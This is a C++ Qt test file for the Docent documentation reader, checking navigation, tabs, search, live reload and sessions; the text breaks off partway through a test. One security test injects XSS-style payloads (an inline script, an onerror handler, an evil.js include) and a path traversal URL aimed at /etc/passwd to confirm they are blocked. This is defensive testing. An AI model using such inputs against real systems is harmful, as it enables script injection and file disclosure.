// End to end: the real window opens a tree, a click in the section tree shows the page, a :doc:
// link navigates inside Docent and selects its node.
#include "application.h"
#include "openfailurenotice.h"
#include "outsidefilesbar.h"
#include "findbar.h"
#include "html/appfiles.h"
#include "planmodel.h"
#include "quickopen.h"
#include "mainwindow.h"
#include "problemmodel.h"
#include "schemehandler.h"
#include "sectiontreemodel.h"
#include "settings.h"
#include "windowfixture.h"

#include <QClipboard>
#include <QDesktopServices>
#include <QMessageBox>
#include <QTcpServer>
#include <QTimer>
#include <QUdpSocket>
#include <QElapsedTimer>
#include <QDockWidget>
#include <QLabel>
#include <QLineEdit>
#include <QListView>
#include <QListWidget>
#include <QPushButton>
#include <QRegularExpression>
#include <QDirIterator>
#include <QSettings>
#include <QTemporaryDir>
#include <QStatusBar>
#include <QSortFilterProxyModel>
#include <QSignalSpy>
#include <QTabWidget>
#include <QTabBar>
#include <QTreeView>
#include <QWebEngineHistory>
#include <QWebEnginePage>
#include <QWebEngineView>

using namespace Docent;

static void beforeApplication() { prepareWebEngine(); }
Q_CONSTRUCTOR_FUNCTION(beforeApplication)

class TestMainWindow : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void clickInTreeShowsPage();
    void docLinkNavigatesAndSelects();
    void manualOpens();
    void sidebarHasItsTabs();
    void remembersLastTree();
    void filterNarrowsTheTree();
    void todoClickOpensItsSection();
    void outlineFollowsThePage();
    void findInPageCountsMatches();
    void zoomIsRemembered();
    void opensAtAnAnchor();
    void statusBarTellsRenderTime();
    void problemsListBrokenReferences();
    void liveReloadFollowsEdits();
    void quickOpenFindsSections_data();
    void quickOpenFindsSections();
    void quickOpenByKeyboard();
    void hostilePageStaysHarmless();
    void tabsKeepTheirOwnPages();
    void tabsRelayTheCurrentPageOnly();
    void recentPathsKeepTheTenNewest();
    void planWordsFromSettings();
    void outlineMarksTheSectionBeingRead();
    void sessionComesBack();
    void secondTreeInTheWindow();
    void init();
    void mathIsTypeset();
    void copyButtonCopiesCode();
    void svgOfTheTreeRunsNoScript();
    void onlyTheReaderOpensTheBrowser();
    void webRtcSendsNoUdp();
    void failedRequestsMakeOneNotice();
    void outsideFilesAreAllowedPerTree();
};

using DocentTest::js;
using DocentTest::showTree;
using DocentTest::waitForHeading;
using DocentTest::waitForPageScript;

void TestMainWindow::init()
{
    // Each test starts without the tabs an earlier one left behind.
    Settings::clearSessions();
}

namespace {

// Clicks the middle of the first element `selector` matches, with the real mouse, scrolled into
// view first (the page view of a test window is small).
bool clickElement(QWebEngineView *view, const QString &selector)
{
    const QStringList centre = js(view, QStringLiteral("(function(){var e=document.querySelector('%1');if(!e)return '';"
                                                       "e.scrollIntoView({block:'center',inline:'center'});"
                                                       "var r=e.getBoundingClientRect();return (r.left+r.width/2)+','+(r.top+r.height/2);})()")
                                            .arg(selector))
                                   .split(u',');
    if (centre.size() != 2 || !view->focusProxy())
        return false;
    const QPointF css(centre[0].toDouble(), centre[1].toDouble());
    QTest::mouseClick(view->focusProxy(), Qt::LeftButton, {}, (css * view->zoomFactor()).toPoint());
    return true;
}

} // namespace

// Stands in for the system browser: records what Docent hands to it instead of opening it.
class BrowserStandIn : public QObject
{
    Q_OBJECT
public:
    BrowserStandIn()
    {
        QDesktopServices::setUrlHandler(QStringLiteral("http"), this, "open");
        QDesktopServices::setUrlHandler(QStringLiteral("https"), this, "open");
    }
    ~BrowserStandIn() override
    {
        QDesktopServices::unsetUrlHandler(QStringLiteral("http"));
        QDesktopServices::unsetUrlHandler(QStringLiteral("https"));
    }
    QStringList opened;

public Q_SLOTS:
    void open(const QUrl &url) { opened << url.toString(); }
};

void TestMainWindow::initTestCase()
{
    QCoreApplication::setOrganizationName(QStringLiteral("DocentTests"));
    QCoreApplication::setApplicationName(QStringLiteral("tst_mainwindow"));
    // What an earlier run left (a window size, a session) must not decide this run's layout.
    QSettings().clear();
}

void TestMainWindow::clickInTreeShowsPage()
{
    MainWindow w;
    QSignalSpy loaded(w.view(), &QWebEngineView::loadFinished);
    QVERIFY(showTree(w, DocentTest::dataDir(QStringLiteral("tree")), QStringLiteral("Test Tree")));
    QVERIFY(loaded.count() >= 1);
    QVERIFY(loaded.last().first().toBool());

    QTreeView *tree = w.sectionTree();
    auto *proxy = qobject_cast<QSortFilterProxyModel *>(tree->model());
    QVERIFY(proxy);
    const QModelIndex usage =
        proxy->mapFromSource(static_cast<SectionTreeModel *>(proxy->sourceModel())->indexFor(QStringLiteral("guide/usage")));
    QVERIFY(usage.isValid());
    tree->scrollTo(usage);
    const QPoint where = tree->visualRect(usage).center();
    loaded.clear();
    QTest::mouseClick(tree->viewport(), Qt::LeftButton, {}, where);
    QTRY_VERIFY_WITH_TIMEOUT(loaded.count() >= 1, 15000);
    QVERIFY(waitForHeading(w.view(), QStringLiteral("Usage")));
    QCOMPARE(w.currentDocname(), QStringLiteral("guide/usage"));
    // the code block arrived highlighted
    QVERIFY(js(w.view(), QStringLiteral("String(document.querySelectorAll('pre.code span[class^=hl-]').length)")).toInt() > 0);
}

void TestMainWindow::docLinkNavigatesAndSelects()
{
    MainWindow w;
    QVERIFY(showTree(w, DocentTest::dataDir(QStringLiteral("tree/guide/intro.rst")), QStringLiteral("Introduction")));
    QSignalSpy loaded(w.view(), &QWebEngineView::loadFinished);
    // A real mouse click on the link (a script click would lack the user activation history needs).
    const QStringList rect = js(w.view(), QStringLiteral("(function(){var r=document.querySelector('a.doc[href=\"usage.html\"]')"
                                                         ".getBoundingClientRect();return Math.round(r.left+r.width/2)+','+"
                                                         "Math.round(r.top+r.height/2);})()")).split(u',');
    QCOMPARE(rect.size(), 2);
    QWidget *surface = w.view()->focusProxy();
    QVERIFY(surface);
    QTest::mouseClick(surface, Qt::LeftButton, {}, QPoint(rect[0].toInt(), rect[1].toInt()));
    QTRY_VERIFY_WITH_TIMEOUT(loaded.count() >= 1, 15000);
    QVERIFY(waitForHeading(w.view(), QStringLiteral("Usage")));
    QTRY_COMPARE_WITH_TIMEOUT(w.sectionTree()->currentIndex().data(SectionTreeModel::DocnameRole).toString(),
                              QStringLiteral("guide/usage"), 5000);
    // and back again
    QVERIFY2(w.view()->history()->canGoBack(), "the link must have added a history entry");
    w.view()->back();
    QVERIFY2(waitForHeading(w.view(), QStringLiteral("Introduction")), qPrintable(w.view()->url().toString()));
    QTRY_COMPARE_WITH_TIMEOUT(w.sectionTree()->currentIndex().data(SectionTreeModel::DocnameRole).toString(),
                              QStringLiteral("guide/intro"), 5000);
}

void TestMainWindow::manualOpens()
{
    MainWindow w;
    w.openManual();
    w.show();
    QVERIFY(waitForHeading(w.view(), QStringLiteral("Docent manual")));
    QVERIFY(w.sectionTree()->model()->rowCount() > 3);
}

void TestMainWindow::sidebarHasItsTabs()
{
    MainWindow w;
    // The outline first; the tree's lists are icon tabs named by their tooltips.
    QStringList tabs;
    for (int i = 0; i < w.sidebar()->count(); ++i)
        tabs << (w.sidebar()->tabIcon(i).isNull() ? w.sidebar()->tabText(i) : w.sidebar()->tabToolTip(i));
    QCOMPARE(tabs, (QStringList{QStringLiteral("Outline"), QStringLiteral("Bookmarks"), QStringLiteral("Todos: none in this tree"),
                                QStringLiteral("Plans: none in this tree")}));
    QVERIFY(w.todoView() && w.planView() && w.outlineView());
    QVERIFY(w.problemView()); // in its own panel below the page
}

void TestMainWindow::remembersLastTree()
{
    {
        MainWindow w;
        QVERIFY(DocentTest::openTree(w, DocentTest::dataDir(QStringLiteral("tree"))));
        w.show();
        w.resize(900, 700);
        w.close();
    }
    QSettings s;
    QCOMPARE(QDir(s.value(QStringLiteral("session/lastTree")).toString()).canonicalPath(),
             QDir(DocentTest::dataDir(QStringLiteral("tree"))).canonicalPath());
    QVERIFY(!s.value(QStringLiteral("window/geometry")).toByteArray().isEmpty());
}

void TestMainWindow::filterNarrowsTheTree()
{
    MainWindow w;
    QVERIFY(DocentTest::openTree(w, DocentTest::dataDir(QStringLiteral("reader"))));
    w.show();
    QTreeView *tree = w.sectionTree();
    QVERIFY(tree->model()->rowCount() >= 3);
    QTest::keyClicks(w.filterBox(), QStringLiteral("evolu"));
    // only the path to "Scheduler Evolution" stays: its page, group and the match itself
    QCOMPARE(tree->model()->rowCount(), 1);
    const QModelIndex reference = tree->model()->index(0, 0);
    QCOMPARE(reference.data().toString(), QStringLiteral("Technical Reference Notes"));
    const QModelIndex group = tree->model()->index(0, 0, reference);
    QCOMPARE(group.data().toString(), QStringLiteral("Forward Looking Plans"));
    QCOMPARE(tree->model()->rowCount(group), 1);
    QCOMPARE(tree->model()->index(0, 0, group).data().toString(), QStringLiteral("Scheduler Evolution"));
    w.filterBox()->clear();
    QVERIFY(tree->model()->rowCount() >= 3);
}

void TestMainWindow::todoClickOpensItsSection()
{
    MainWindow w;
    QVERIFY(showTree(w, DocentTest::dataDir(QStringLiteral("reader")), QStringLiteral("Reader Tree")));
    QCOMPARE(w.sidebar()->tabToolTip(w.sidebar()->indexOf(w.todoView())), QStringLiteral("Todos: 4"));
    QCOMPARE(w.sidebar()->tabText(w.sidebar()->indexOf(w.todoView())), QStringLiteral("4"));
    QTreeView *todos = w.todoView();
    DocentTest::showPanel(w, todos);
    const QModelIndex page = todos->model()->index(1, 0); // reference/scheduling
    QVERIFY(page.data().toString().startsWith(QStringLiteral("Scheduling")));
    const QModelIndex note = todos->model()->index(0, 0, page);
    todos->scrollTo(note);
    QTest::mouseClick(todos->viewport(), Qt::LeftButton, {}, todos->visualRect(note).center());
    QVERIFY(waitForHeading(w.view(), QStringLiteral("Scheduling")));
    QCOMPARE(w.currentDocname(), QStringLiteral("reference/scheduling"));
    // the note itself is the target, and it flashes
    QTRY_VERIFY_WITH_TIMEOUT(w.view()->url().fragment().startsWith(QStringLiteral("todo-")), 5000);
    QElapsedTimer t;
    t.start();
    bool flashed = false;
    while (!flashed && t.elapsed() < 5000) {
        flashed = js(w.view(), QStringLiteral("String(document.querySelectorAll('.flash').length)")) == u"1";
        QTest::qWait(20);
    }
    QVERIFY2(flashed, "the picked note must flash");
}

void TestMainWindow::outlineFollowsThePage()
{
    MainWindow w;
    QVERIFY(showTree(w, DocentTest::dataDir(QStringLiteral("reader/guide.rst")), QStringLiteral("Guide")));
    QTRY_COMPARE_WITH_TIMEOUT(w.outlineView()->model()->rowCount(), 2, 5000);
    DocentTest::showPanel(w, w.outlineView());
    const QModelIndex configuring = w.outlineView()->model()->index(1, 0);
    QCOMPARE(configuring.data().toString(), QStringLiteral("Configuring"));
    QTest::mouseClick(w.outlineView()->viewport(), Qt::LeftButton, {}, w.outlineView()->visualRect(configuring).center());
    QTRY_COMPARE_WITH_TIMEOUT(w.view()->url().fragment(), QStringLiteral("configuring"), 5000);
    // the section tree follows the anchor
    QTRY_COMPARE_WITH_TIMEOUT(w.sectionTree()->currentIndex().data().toString(), QStringLiteral("Configuring"), 5000);
}

void TestMainWindow::findInPageCountsMatches()
{
    MainWindow w;
    QVERIFY(showTree(w, DocentTest::dataDir(QStringLiteral("reader/guide.rst")), QStringLiteral("Guide")));
    QTest::keyClick(&w, Qt::Key_F, Qt::ControlModifier);
    QTRY_VERIFY(w.findBar()->isVisible());
    QVERIFY(w.findBar()->field()->hasFocus());
    QTest::keyClicks(w.findBar()->field(), QStringLiteral("the"));
    // "Edit the file." and "Only if you must." hold one "the" between them... the page text decides
    QTRY_VERIFY_WITH_TIMEOUT(w.findBar()->countLabel()->text().contains(QStringLiteral(" of ")), 5000);
    QTest::keyClick(w.findBar()->field(), Qt::Key_Escape);
    QTRY_VERIFY(!w.findBar()->isVisible());
}

void TestMainWindow::zoomIsRemembered()
{
    {
        MainWindow w;
        w.show();
        QVERIFY(QTest::qWaitForWindowExposed(&w));
        QTest::keyClick(&w, Qt::Key_Plus, Qt::ControlModifier);
        QVERIFY(w.zoom() > 1.05);
    }
    MainWindow again;
    again.show();
    QVERIFY(QTest::qWaitForWindowExposed(&again));
    QVERIFY2(again.zoom() > 1.05, "the zoom factor must survive a restart");
    QTest::keyClick(&again, Qt::Key_0, Qt::ControlModifier);
    QCOMPARE(again.zoom(), 1.0);
}

void TestMainWindow::opensAtAnAnchor()
{
    MainWindow w;
    QVERIFY(showTree(w, DocentTest::dataDir(QStringLiteral("reader/guide.rst")), QStringLiteral("Guide"), QStringLiteral("configuring")));
    QCOMPARE(w.view()->url().fragment(), QStringLiteral("configuring"));
    QTRY_COMPARE_WITH_TIMEOUT(w.sectionTree()->currentIndex().data().toString(), QStringLiteral("Configuring"), 5000);
}

void TestMainWindow::statusBarTellsRenderTime()
{
    MainWindow w;
    QVERIFY(showTree(w, DocentTest::dataDir(QStringLiteral("reader/guide.rst")), QStringLiteral("Guide")));
    bool shown = false;
    QElapsedTimer t;
    t.start();
    while (!shown && t.elapsed() < 5000) {
        for (QLabel *label : w.statusBar()->findChildren<QLabel *>())
            shown = shown || QRegularExpression(QStringLiteral("^Rendered in \\d+ ms$")).match(label->text()).hasMatch();
        QTest::qWait(20);
    }
    QVERIFY2(shown, "the status bar must show the page's render time");
}

void TestMainWindow::problemsListBrokenReferences()
{
    MainWindow w;
    QVERIFY(DocentTest::openTree(w, DocentTest::dataDir(QStringLiteral("tree"))));
    w.show();
    // guide/usage.rst links to a page that does not exist
    QCOMPARE(w.problemDock()->windowTitle(), QStringLiteral("Problems (1)"));
    const QModelIndex first = w.problemView()->model()->index(0, 0, w.problemView()->model()->index(0, 0));
    QVERIFY2(first.data(ProblemModel::MessageRole).toString().startsWith(QStringLiteral("guide/usage.rst:10:")),
             qPrintable(first.data(ProblemModel::MessageRole).toString()));
    w.problemDock()->show();
    QTest::mouseClick(w.problemView()->viewport(), Qt::LeftButton, {}, w.problemView()->visualRect(first).center());
    QVERIFY(waitForHeading(w.view(), QStringLiteral("Usage")));
}

void TestMainWindow::liveReloadFollowsEdits()
{
    QTemporaryDir dir;
    QVERIFY(DocentTest::copyTree(QStringLiteral("reader"), dir.path()));
    const auto write = [](const QString &path, const QByteArray &text) {
        QFile f(path);
        QVERIFY(f.open(QIODevice::WriteOnly | QIODevice::Truncate));
        f.write(text);
    };
    MainWindow w;
    QVERIFY(showTree(w, dir.filePath(QStringLiteral("guide.rst")), QStringLiteral("Guide")));

    // an editor writing in place
    write(dir.filePath(QStringLiteral("guide.rst")), "Handbook\n========\n\nNew text.\n");
    QVERIFY(waitForHeading(w.view(), QStringLiteral("Handbook")));
    QTRY_VERIFY_WITH_TIMEOUT(!w.sectionTree()->model()->match(w.sectionTree()->model()->index(0, 0), Qt::DisplayRole,
                                                              QStringLiteral("Handbook"), 1, Qt::MatchRecursive)
                                  .isEmpty(),
                             5000);

    // an editor that writes a new file and renames it over the old one (vim, atomic save)
    write(dir.filePath(QStringLiteral("guide.rst.tmp")), "Manual\n======\n\nReplaced.\n");
    QVERIFY(QFile::remove(dir.filePath(QStringLiteral("guide.rst"))));
    QVERIFY(QFile::rename(dir.filePath(QStringLiteral("guide.rst.tmp")), dir.filePath(QStringLiteral("guide.rst"))));
    QVERIFY(waitForHeading(w.view(), QStringLiteral("Manual")));

    // and again: the replaced file is still watched
    write(dir.filePath(QStringLiteral("guide.rst")), "Third Title\n===========\n");
    QVERIFY(waitForHeading(w.view(), QStringLiteral("Third Title")));

    // a new page, listed in the root toctree, appears in the tree
    write(dir.filePath(QStringLiteral("extra.rst")), "Extra Page\n==========\n");
    write(dir.filePath(QStringLiteral("index.rst")),
          "Reader Tree\n===========\n\n.. toctree::\n\n   guide\n   extra\n   reference/index\n");
    QTRY_VERIFY_WITH_TIMEOUT(!w.sectionTree()->model()->match(w.sectionTree()->model()->index(0, 0), Qt::DisplayRole,
                                                              QStringLiteral("Extra Page"), 1, Qt::MatchRecursive)
                                  .isEmpty(),
                             5000);
    QCOMPARE(w.currentDocname(), QStringLiteral("guide")); // the reader stays where they were
}

void TestMainWindow::quickOpenFindsSections_data()
{
    QTest::addColumn<QString>("query");
    QTest::addColumn<QString>("text");
    QTest::addColumn<bool>("matches");
    QTest::newRow("subsequence") << "schev" << "Scheduler Evolution" << true;
    QTest::newRow("case ignored") << "ADV" << "Advanced options" << true;
    QTest::newRow("order matters") << "ve" << "Eve" << true;
    QTest::newRow("missing letter") << "xyz" << "Guide" << false;
    QTest::newRow("out of order") << "dg" << "Guide" << false;
}

void TestMainWindow::quickOpenFindsSections()
{
    QFETCH(QString, query);
    QFETCH(QString, text);
    QFETCH(bool, matches);
    QCOMPARE(QuickOpen::score(query, text) >= 0, matches);
    // a tight match ranks above a scattered one
    QVERIFY(QuickOpen::score(QStringLiteral("guide"), QStringLiteral("Guide")) >
            QuickOpen::score(QStringLiteral("guide"), QStringLiteral("Getting Used In Daily Environments")));
}

void TestMainWindow::quickOpenByKeyboard()
{
    MainWindow w;
    QVERIFY(showTree(w, DocentTest::dataDir(QStringLiteral("reader")), QStringLiteral("Reader Tree")));
    QTest::keyClick(&w, Qt::Key_K, Qt::ControlModifier);
    QTRY_VERIFY(w.quickOpen() && w.quickOpen()->isVisible());
    QTest::keyClicks(w.quickOpen()->field(), QStringLiteral("advopt"));
    QTRY_VERIFY(w.quickOpen()->results()->count() >= 1);
    QVERIFY(w.quickOpen()->results()->item(0)->text().startsWith(QStringLiteral("Advanced options")));
    QTest::keyClick(w.quickOpen()->field(), Qt::Key_Return);
    QVERIFY(waitForHeading(w.view(), QStringLiteral("Guide")));
    QCOMPARE(w.view()->url().fragment(), QStringLiteral("advanced-options"));
    QVERIFY(!w.quickOpen()->isVisible());
}

void TestMainWindow::hostilePageStaysHarmless()
{
    MainWindow w;
    QVERIFY(showTree(w, DocentTest::dataDir(QStringLiteral("hostile")), QStringLiteral("Hostile Page")));
    // no script of the page ran: raw HTML is not passed through, and the only scripts are
    // Docent's own, from the app host
    QCOMPARE(js(w.view(), QStringLiteral("document.title")), QStringLiteral("Hostile Page"));
    const QStringList scripts = js(w.view(), QStringLiteral("Array.from(document.scripts).map(function(s){return s.src;}).join(' ')"))
                                    .split(u' ', Qt::SkipEmptyParts);
    QVERIFY(!scripts.isEmpty());
    for (const QString &src : scripts)
        QVERIFY2(src.startsWith(QStringLiteral("docent://app/")), qPrintable(src));
    // KaTeX (trust off) makes no link of \href{javascript:...}
    QCOMPARE(js(w.view(), QStringLiteral("String(document.querySelectorAll('.katex a').length)")), QStringLiteral("0"));

    // Had markup got past the writer, the CSP would still stop it: an inline script, an event
    // handler attribute and a script from the tree (script-src docent://app does not cover
    // docent://tree, and a tree's .js is served as text/plain, which a browser would run) are all
    // refused, each reported before it would have run (while Docent's own script, from
    // docent://app, did run: waitForPageScript above).
    js(w.view(), QStringLiteral(
        "window.refused=[];document.addEventListener('securitypolicyviolation',function(e){window.refused.push(e.blockedURI);});"
        "var s=document.createElement('script');s.textContent=\"document.title='inline ran'\";document.body.appendChild(s);"
        "var d=document.createElement('div');d.innerHTML='<img src=\"data:,x\" onerror=\"document.title=&quot;handler ran&quot;\">';"
        "document.body.appendChild(d);"
        "var t=document.createElement('script');t.src='docent://tree/evil.js';document.body.appendChild(t);''"));
    QTRY_COMPARE_WITH_TIMEOUT(js(w.view(), QStringLiteral("window.refused.sort().join(' ')")),
                              QStringLiteral("docent inline inline"), 10000);
    QCOMPARE(js(w.view(), QStringLiteral("document.title")), QStringLiteral("Hostile Page"));
    // a javascript: link is not a link
    QCOMPARE(js(w.view(), QStringLiteral("String(document.querySelectorAll('a[href^=\"javascript:\"]').length)")),
             QStringLiteral("0"));
    // the remote image stays unloaded (the page's CSP refuses it before any request; the
    // profile's interceptor would refuse it after); nothing outside the tree was read
    const QString text = js(w.view(), QStringLiteral("document.body.innerText"));
    QVERIFY2(!text.contains(QStringLiteral("root:")), "the page shows a file from outside the tree");
    // and nothing offers to read it: the folder /etc/passwd shares with the tree is the file system's root
    QVERIFY(!w.outsideFilesBar()->isVisible());
    QVERIFY(text.contains(QStringLiteral("A harmless closing paragraph.")));
    const QString image = js(w.view(), QStringLiteral("(function(){var i=document.querySelectorAll('img');"
                                                      "for (var k=0;k<i.length;++k) if (i[k].naturalWidth>0) return 'loaded';"
                                                      "return 'none';})()"));
    QCOMPARE(image, QStringLiteral("none"));

    // an HTML file of the tree is served as text, so its script cannot run either
    QSignalSpy loaded(w.view(), &QWebEngineView::loadFinished);
    w.view()->setUrl(QUrl(QStringLiteral("docent://tree/evil.html")));
    QTRY_VERIFY_WITH_TIMEOUT(loaded.count() >= 1, 10000);
    QTest::qWait(200);
    QVERIFY(js(w.view(), QStringLiteral("document.title")) != QStringLiteral("tree html ran"));
    QVERIFY(js(w.view(), QStringLiteral("document.body.innerText")).contains(QStringLiteral("<script>")));

    // the app host serves Docent's own files, never the tree's
    for (const char *path : {"docent://app/evil.js", "docent://app/index.rst", "docent://app/katex/../evil.js"}) {
        loaded.clear();
        w.view()->setUrl(QUrl(QLatin1String(path)));
        QTRY_VERIFY_WITH_TIMEOUT(loaded.count() >= 1, 10000);
        QVERIFY2(!loaded.last().first().toBool(), path);
    }

    // and no path leaves the tree
    loaded.clear();
    w.view()->setUrl(QUrl(QStringLiteral("docent://tree/%2E%2E/%2E%2E/%2E%2E/%2E%2E/%2E%2E/%2E%2E/etc/passwd")));
    QTRY_VERIFY_WITH_TIMEOUT(loaded.count() >= 1, 10000);
    QVERIFY(!js(w.view(), QStringLiteral("document.body ? document.body.innerText : ''")).contains(QStringLiteral("root:")));
}

void TestMainWindow::tabsKeepTheirOwnPages()
{
    MainWindow w;
    QVERIFY(showTree(w, DocentTest::dataDir(QStringLiteral("tree/guide/intro.rst")), QStringLiteral("Introduction")));
    QCOMPARE(w.tabs()->count(), 1);

    // Ctrl+T: a second tab on the same page
    QTest::keyClick(&w, Qt::Key_T, Qt::ControlModifier);
    QCOMPARE(w.tabs()->count(), 2);
    QCOMPARE(w.tabs()->currentIndex(), 1);
    QVERIFY(waitForHeading(w.view(), QStringLiteral("Introduction")));
    w.showDocument(QStringLiteral("guide/usage"));
    QVERIFY(waitForHeading(w.view(), QStringLiteral("Usage")));

    // back on the first tab, the tree follows that tab's page
    w.tabs()->setCurrentIndex(0);
    QCOMPARE(w.currentDocname(), QStringLiteral("guide/intro"));
    QTRY_COMPARE_WITH_TIMEOUT(w.sectionTree()->currentIndex().data(SectionTreeModel::DocnameRole).toString(),
                              QStringLiteral("guide/intro"), 5000);

    // Ctrl+click on a link opens it in a new tab and leaves this one where it is
    const QStringList rect = js(w.view(), QStringLiteral("(function(){var r=document.querySelector('a.doc[href=\"usage.html\"]')"
                                                         ".getBoundingClientRect();return Math.round(r.left+r.width/2)+','+"
                                                         "Math.round(r.top+r.height/2);})()")).split(u',');
    QCOMPARE(rect.size(), 2);
    QTest::mouseClick(w.view()->focusProxy(), Qt::LeftButton, Qt::ControlModifier, QPoint(rect[0].toInt(), rect[1].toInt()));
    QTRY_COMPARE_WITH_TIMEOUT(w.tabs()->count(), 3, 5000);
    QCOMPARE(w.currentDocname(), QStringLiteral("guide/intro"));

    // Ctrl+W closes tabs, but never the last one
    QTest::keyClick(&w, Qt::Key_W, Qt::ControlModifier);
    QTest::keyClick(&w, Qt::Key_W, Qt::ControlModifier);
    QTest::keyClick(&w, Qt::Key_W, Qt::ControlModifier);
    QCOMPARE(w.tabs()->count(), 1);
    QVERIFY(w.view());
}

void TestMainWindow::tabsRelayTheCurrentPageOnly()
{
    MainWindow w;
    QVERIFY(showTree(w, DocentTest::dataDir(QStringLiteral("tree/guide/intro.rst")), QStringLiteral("Introduction")));
    TabWidget *tabs = w.tabs();
    QSignalSpy urls(tabs, &TabWidget::urlChanged);
    QSignalSpy loads(tabs, &TabWidget::loadFinished);
    QSignalSpy current(tabs, &TabWidget::currentPageChanged);
    // A page opened behind the current one says nothing through the tabs.
    PageView *behind = tabs->openTab(SchemeHandler::pageUrl(QStringLiteral("guide/usage")), false);
    QVERIFY(waitForHeading(behind, QStringLiteral("Usage")));
    QCOMPARE(urls.count(), 0);
    QCOMPARE(loads.count(), 0);
    QCOMPARE(current.count(), 0);
    tabs->setCurrentWidget(behind);
    QCOMPARE(current.count(), 1);
    QCOMPARE(qvariant_cast<PageView *>(current.first().first()), behind);
    QCOMPARE(w.view(), behind);
    // Now it is in front, its signals come through, and the window follows it.
    w.showDocument(QStringLiteral("index"));
    QTRY_VERIFY_WITH_TIMEOUT(loads.count() >= 1, 15000);
    QCOMPARE(SchemeHandler::docnameOf(urls.last().first().toUrl()), QStringLiteral("index"));
    QCOMPARE(w.currentDocname(), QStringLiteral("index"));
    // A zoom reaches every page, and the pages still to come.
    QTest::keyClick(&w, Qt::Key_Plus, Qt::ControlModifier);
    QCOMPARE(tabs->page(0)->zoomFactor(), w.zoom());
    QCOMPARE(tabs->openTab({}, false)->zoomFactor(), w.zoom());
    QTest::keyClick(&w, Qt::Key_0, Qt::ControlModifier);
}

void TestMainWindow::recentPathsKeepTheTenNewest()
{
    QSettings().remove(QStringLiteral("session/recent"));
    for (int i = 0; i < 12; ++i)
        Settings::addRecentPath(QStringLiteral("/trees/%1").arg(i));
    Settings::addRecentPath(QStringLiteral("/trees/5")); // opened again: first, and once
    const QStringList recent = Settings::recentPaths();
    QCOMPARE(recent.size(), 10);
    QCOMPARE(recent.first(), QStringLiteral("/trees/5"));
    QCOMPARE(recent.count(QStringLiteral("/trees/5")), 1);
    QCOMPARE(recent.value(1), QStringLiteral("/trees/11"));
    QVERIFY(!recent.contains(QStringLiteral("/trees/1")));
    // Stored under the key every release has used.
    QCOMPARE(QSettings().value(QStringLiteral("session/recent")).toStringList(), recent);
    QSettings().remove(QStringLiteral("session/recent"));
}

void TestMainWindow::planWordsFromSettings()
{
    {
        MainWindow w;
        QVERIFY(DocentTest::openTree(w, DocentTest::dataDir(QStringLiteral("reader"))));
        QCOMPARE(w.planView()->model()->rowCount(), 2); // "Forward Looking Plans"
    }
    Settings::setPlanWords({QStringLiteral("internals")});
    MainWindow w;
    QVERIFY(DocentTest::openTree(w, DocentTest::dataDir(QStringLiteral("reader"))));
    QCOMPARE(w.planView()->model()->index(0, 0).data(PlanModel::DocnameRole).toString(), QStringLiteral("reference/rpc"));
    QSettings().remove(QStringLiteral("plans/words"));
}

void TestMainWindow::outlineMarksTheSectionBeingRead()
{
    MainWindow w;
    w.resize(900, 300); // short, so the page scrolls
    QVERIFY(showTree(w, DocentTest::dataDir(QStringLiteral("reader/guide.rst")), QStringLiteral("Guide")));
    // make the page long enough to scroll past each section
    js(w.view(), QStringLiteral("document.querySelectorAll('section section').forEach(function(s){"
                                "s.style.minHeight='1500px';}); 'ok'"));
    js(w.view(), QStringLiteral("document.getElementById('configuring').scrollIntoView(); 'ok'"));
    QTRY_COMPARE_WITH_TIMEOUT(w.outlineView()->currentIndex().data().toString(), QStringLiteral("Configuring"), 5000);
    js(w.view(), QStringLiteral("document.getElementById('advanced-options').scrollIntoView(); 'ok'"));
    QTRY_COMPARE_WITH_TIMEOUT(w.outlineView()->currentIndex().data().toString(), QStringLiteral("Advanced options"), 5000);
}

void TestMainWindow::sessionComesBack()
{
    const QString tree = DocentTest::dataDir(QStringLiteral("reader"));
    {
        MainWindow w;
        w.resize(900, 300); // short, so the page scrolls
        QVERIFY(showTree(w, tree, QStringLiteral("Reader Tree")));
        w.showDocument(QStringLiteral("guide"));
        QVERIFY(waitForHeading(w.view(), QStringLiteral("Guide")));
        js(w.view(), QStringLiteral("window.scrollTo(0, 120)"));
        QTRY_VERIFY_WITH_TIMEOUT(js(w.view(), QStringLiteral("String(window.scrollY)")).toInt() > 0, 5000);
        QWebEngineView *second = w.tabs()->openTab(SchemeHandler::pageUrl(QStringLiteral("reference/rpc")), false);
        QVERIFY(waitForHeading(second, QStringLiteral("Messaging")));
        QTest::qWait(1000); // the window notes how far the page is scrolled as it polls it
        w.close();
        QSettings s;
        QVERIFY(s.childGroups().contains(QStringLiteral("sessions")));
    }
    MainWindow w;
    w.resize(900, 300);
    QVERIFY(DocentTest::openTree(w, tree));
    w.show();
    QCOMPARE(w.tabs()->count(), 2);
    QCOMPARE(w.currentDocname(), QStringLiteral("guide"));
    QVERIFY(waitForHeading(w.view(), QStringLiteral("Guide")));
    QTRY_VERIFY_WITH_TIMEOUT(js(w.view(), QStringLiteral("String(window.scrollY)")).toInt() > 0, 5000);
    auto *second = qobject_cast<QWebEngineView *>(w.tabs()->widget(1));
    QCOMPARE(SchemeHandler::docnameOf(second->url()), QStringLiteral("reference/rpc"));

    // A single file asks for that file only.
    MainWindow single;
    QVERIFY(DocentTest::openTree(single, tree + QStringLiteral("/reference/scheduling.rst")));
    QCOMPARE(single.tabs()->count(), 1);
    QCOMPARE(single.currentDocname(), QStringLiteral("reference/scheduling"));
}

void TestMainWindow::secondTreeInTheWindow()
{
    MainWindow w;
    QVERIFY(showTree(w, DocentTest::dataDir(QStringLiteral("handbook")), QStringLiteral("Field Handbook")));
    // Its specs are its plans; its two todos and its problems are counted on the tabs.
    QStringList plans;
    for (int r = 0; r < w.planView()->model()->rowCount(); ++r)
        plans << w.planView()->model()->index(r, 0).data(PlanModel::DocnameRole).toString();
    QCOMPARE(plans, QStringList({QStringLiteral("specs/2026.2/approved/offline-mode"), QStringLiteral("specs/backlog/voice-notes")}));
    QCOMPARE(w.sidebar()->tabToolTip(w.sidebar()->indexOf(w.todoView())), QStringLiteral("Todos: 2"));
    QCOMPARE(w.problemDock()->windowTitle(), QStringLiteral("Problems (3)")); // its error and two warnings: what the list shows
    // The deepest page is four levels down and opens from the tree.
    const auto *proxy = qobject_cast<QSortFilterProxyModel *>(w.sectionTree()->model());
    const QModelIndex deep = static_cast<SectionTreeModel *>(proxy->sourceModel())->indexFor(QStringLiteral("part1/chapter1/section1/deep"));
    QVERIFY(deep.isValid());
    int depth = 0;
    for (QModelIndex up = deep.parent(); up.isValid(); up = up.parent())
        ++depth;
